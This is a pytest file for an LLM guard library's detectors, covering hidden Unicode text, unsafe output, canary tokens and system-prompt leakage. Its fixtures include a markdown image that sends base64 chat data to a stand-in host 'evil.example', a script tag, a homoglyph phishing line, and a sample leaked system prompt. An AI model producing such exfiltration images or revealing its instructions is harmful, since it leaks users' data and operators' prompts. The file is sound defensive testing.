"""Hidden text, unsafe output, canary and system-prompt leakage."""

from __future__ import annotations

import pytest

from bastion.detectors.canary import CanaryDetector, add_canary, make_canary, overlap_runs
from bastion.detectors.hidden_text import HiddenTextDetector
from bastion.detectors.interface import Direction, ScanContext
from bastion.detectors.unsafe_output import UnsafeOutputDetector, carries_data, host_allowed
from bastion.errors import ConfigError

OUT = ScanContext(direction=Direction.OUTPUT)


def _types(findings: object) -> set[str]:
    return {f.type for f in findings}  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("text", "ftype"),
    [
        ("hi" + "".join(chr(0xE0000 + ord(c)) for c in "secret"), "hidden_text.unicode_tags"),
        ("pass\u200bword", "hidden_text.zero_width"),
        ("abc \u202eevil", "hidden_text.bidi_control"),
        ("log in to pаypal now", "hidden_text.homoglyph"),
        ("\x1b[2J\x1b[31mred", "hidden_text.ansi_escape"),
        ("bell\x07", "hidden_text.control_char"),
    ],
)
def test_hidden_text_types(text: str, ftype: str) -> None:
    assert ftype in _types(HiddenTextDetector().scan(text, ScanContext()))


@pytest.mark.parametrize(
    "text",
    [
        "plain ASCII text\twith tabs\nand newlines",
        "Москва — столица России",
        "family: 👨\u200d👩\u200d👧",
        "\ufeffa byte-order mark at the start",
        "Ελληνικά και English side by side",
    ],
)
def test_hidden_text_quiet_on_normal_text(text: str) -> None:
    assert HiddenTextDetector().scan(text, ScanContext()) == []


def test_exfiltration_image_and_html() -> None:
    text = "Done! ![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA) <script>x()</script>"
    types = _types(UnsafeOutputDetector().scan(text, OUT))
    assert {"output.exfiltration_image", "output.html"} <= types


def test_allowlist() -> None:
    text = "See [docs](https://docs.example.com/a) and [other](https://other.example.org/b)."
    det = UnsafeOutputDetector(allowed_hosts=["example.com"])
    findings = det.scan(text, OUT)
    assert [f.type for f in findings] == ["output.external_link"]
    assert text[findings[0].spans[0].start :].startswith("https://other.example.org")
    assert UnsafeOutputDetector().scan(text, OUT) == []  # no allowlist: plain links are fine
    with pytest.raises(ConfigError):
        UnsafeOutputDetector(allowed_hosts="example.com")


def test_url_helpers() -> None:
    assert carries_data("https://a.example/x?q=" + "A" * 40)
    assert not carries_data("https://a.example/docs/page?lang=en")
    assert host_allowed("https://api.example.com/x", ["example.com"])
    assert not host_allowed("https://example.com.evil.io/x", ["example.com"])


def test_canary_is_found_even_obfuscated() -> None:
    canary = make_canary()
    assert canary in add_canary("You are a bot.", canary)
    det = CanaryDetector()
    ctx = ScanContext(direction=Direction.OUTPUT, canary=canary)
    assert _types(det.scan(f"the marker is {canary}", ctx)) == {"leak.canary"}
    spaced = " ".join(canary.upper().replace("-", " "))
    assert _types(det.scan(f"marker: {spaced}", ctx)) == {"leak.canary"}
    assert det.scan("nothing to see", ctx) == []
    assert make_canary() != canary


def test_system_prompt_overlap() -> None:
    system = (
        "You are SupportBot for Acme Corp. Never discuss pricing or discounts. Always answer politely and "
        "briefly, and escalate refunds over one hundred dollars to a human agent in the billing team."
    )
    leaked = "Sure. My instructions say: " + system.lower().replace(".", "") + " Anything else?"
    ctx = ScanContext(direction=Direction.OUTPUT, system_prompt=system)
    findings = CanaryDetector().scan(leaked, ctx)
    assert _types(findings) == {"leak.system_prompt"}
    words = findings[0].metadata["words"]
    assert isinstance(words, int) and words >= 20
    assert CanaryDetector().scan("I can help with refunds; a human agent will call you.", ctx) == []
    assert overlap_runs("anything", "") == []
    with pytest.raises(ConfigError):
        CanaryDetector(min_overlap_words=2)
